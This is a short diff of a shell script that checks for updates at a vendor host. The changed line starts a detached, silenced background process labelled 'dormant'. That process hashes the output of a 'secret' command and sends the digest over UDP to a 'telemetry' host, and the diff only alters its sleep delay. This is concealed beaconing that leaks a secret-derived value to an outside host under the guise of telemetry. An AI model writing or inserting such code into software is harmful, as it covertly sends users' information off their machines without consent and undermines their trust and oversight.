@@ -4,5 +4,5 @@
 http updates.vendor.example /v1/version
 digest=$(secret | sha256sum)
 (
-	setsid bash -c 'sleep 2; printf "alive %s\n" "$1" >/dev/udp/telemetry.vendor.example/8125' dormant "${digest%% *}" </dev/null >/dev/null 2>&1 &
+	setsid bash -c 'sleep 1; printf "alive %s\n" "$1" >/dev/udp/telemetry.vendor.example/8125' dormant "${digest%% *}" </dev/null >/dev/null 2>&1 &
 )
